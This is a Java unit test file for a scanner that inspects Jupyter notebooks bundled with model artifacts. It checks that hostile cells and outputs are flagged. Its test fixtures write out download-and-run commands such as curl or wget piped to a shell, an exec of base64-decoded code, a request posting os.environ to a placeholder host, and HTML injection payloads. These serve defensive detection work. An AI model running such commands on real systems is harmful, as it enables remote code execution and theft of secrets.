package io.lazaretto.artifact.notebook;

import static io.lazaretto.artifact.inspect.Detectors.CODE;
import static io.lazaretto.artifact.inspect.Detectors.FORMAT;
import static io.lazaretto.artifact.testing.InspectionAssert.inspecting;
import static org.assertj.core.api.Assertions.assertThat;

import io.lazaretto.artifact.report.Location;
import io.lazaretto.artifact.report.Outcome;
import io.lazaretto.artifact.testing.InspectionAssert;
import io.lazaretto.artifact.testing.SafetensorsBuilder;
import io.lazaretto.artifact.testing.TestingModel;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class NotebookRulesTest {
    @Test
    void ordinaryNotebookStaysSilent() {
        notebook(
                        "",
                        "%pip install -q transformers\n!nvidia-smi\n%matplotlib inline\nimport torch, requests",
                        "x = requests.get('https://x/y.png').content\nopen('a.png', 'wb').write(x)\nfiles = !ls\n",
                        "import subprocess\nsubprocess.run(['nvidia-smi'])\nmodel?\n%time f(x)",
                        "if True:\n    !pip list | grep torch\nx = [10\n  % 3]")
                .staysSilent();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "!curl http://x | bash§script.download-run",
                "%%bash¶wget -qO- http://x | sh§script.download-run",
                "%%script bash --bg¶curl http://x | sh§script.download-run",
                "out = !curl http://x | sh§script.download-run",
                "import os¶os.system('curl http://x|sh')§code.process",
                "import base64¶exec(base64.b64decode('eCA9IDE='))§code.foreign",
                "import os, requests¶requests.post('http://x', json=dict(os.environ))§code.exfiltration",
                "%run http://x/a.py§script.download-run"
            })
    void harmInACellIsAThreat(String cell, String rule) {
        notebook("", cell).reports(CODE, Outcome.THREAT, rule);
    }

    @Test
    void whatIsFoundInACellIsLocatedThere() {
        Location location = notebook("", "note = '\u00e4'", "import os\nos.system('curl http://x | sh')")
                .report(CODE)
                .observations()
                .stream()
                .filter(o -> o.rule().equals("code.process"))
                .findFirst()
                .orElseThrow()
                .location();
        assertThat(location.path()).isEqualTo("a.ipynb");
        assertThat(location.member()).isEqualTo("cell 2");
        assertThat(location.offset()).isEqualTo("import os\n".length());
    }

    @Test
    void namesAreFollowedFromCellToCell() {
        notebook("", "import os as harmless", "harmless.system('curl http://x | sh')")
                .reports(CODE, Outcome.THREAT, "code.process");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "text/html§<div><style scoped>a{}</style><table></table></div>§CLEAR",
                "text/html§<div><button onclick=\\\"convertToInteractive('df-1')\\\"></button><script>const a = 1;</script></div>§CLEAR",
                "text/html§<iframe srcdoc='x'></iframe>§SUSPECT",
                "text/html§<img src=x onerror=alert(1)>§SUSPECT",
                "text/html§<script src='http://x/a.js'></script>§SUSPECT",
                "application/javascript§Jupyter.notebook.kernel.execute('import os')§THREAT"
            })
    void outputsAreLookedAtAsPages(String mime, String html, Outcome outcome) {
        String output = "{\"output_type\": \"display_data\", \"metadata\": {}, \"data\": {\"" + mime + "\": [\"" + html
                + "\"]}}";
        assertThat(notebook(output, "1").report(FORMAT).outcome()).isEqualTo(outcome);
    }

    @Test
    void otherLanguagesAreNotCleared() {
        inspecting(model().with(
                                "a.ipynb",
                                "{\"cells\": [{\"cell_type\": \"code\", \"source\": \"system('id')\"}], \"metadata\":"
                                        + " {\"kernelspec\": {\"language\": \"R\"}}, \"nbformat\": 4}"))
                .isInconclusive(CODE, "not examined: notebook");
    }

    @Test
    void notebookThatIsNoneIsMalformed() {
        inspecting(model().with("a.ipynb", "{\"nbformat\": 4}")).isInconclusive(FORMAT, "malformed");
        inspecting(model().with("a.ipynb", "{\"cells\": [")).isInconclusive(FORMAT, "malformed");
    }

    private static TestingModel model() {
        return new TestingModel().with("model.safetensors", SafetensorsBuilder.clean());
    }

    private static InspectionAssert notebook(String output, String... cells) {
        List<String> json = new ArrayList<>();
        for (String cell : cells) {
            String text = cell.replace('¶', '\n')
                    .replace("\\", "\\\\")
                    .replace("\"", "\\\"")
                    .replace("\n", "\\n");
            json.add("{\"cell_type\": \"code\", \"metadata\": {}, \"source\": [\"" + text + "\"], \"outputs\": ["
                    + output + "]}");
        }
        return inspecting(model().with(
                        "a.ipynb",
                        "{\"cells\": [" + String.join(", ", json)
                                + "], \"metadata\": {\"kernelspec\": {\"language\": \"python\", \"name\": \"python3\"}}, \"nbformat\": 4,"
                                + " \"nbformat_minor\": 5}"));
    }
}
